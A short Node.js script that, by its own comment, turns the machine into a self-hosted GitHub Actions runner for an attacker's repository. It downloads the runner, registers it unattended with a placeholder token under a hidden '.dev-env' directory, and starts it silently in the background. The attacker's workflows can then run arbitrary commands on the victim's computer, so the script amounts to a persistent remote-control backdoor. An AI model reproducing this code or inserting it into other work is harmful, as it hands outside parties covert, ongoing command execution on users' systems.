// Registers the machine as a self-hosted GitHub Actions runner of the
// attacker's repository: its workflows then run commands here at will.
const { execSync } = require("child_process");
const os = require("os");
const dir = `${os.homedir()}/.dev-env`;
execSync(`mkdir -p ${dir} && cd ${dir} && curl -sL -o r.tgz https://github.com/actions/runner/releases/download/v2.330.0/actions-runner-linux-x64-2.330.0.tar.gz && tar xzf r.tgz && ./config.sh --url https://github.com/someone/dev-env --unattended --token AAAAEXAMPLE --name dev && (nohup ./run.sh > /dev/null 2>&1 &)`);
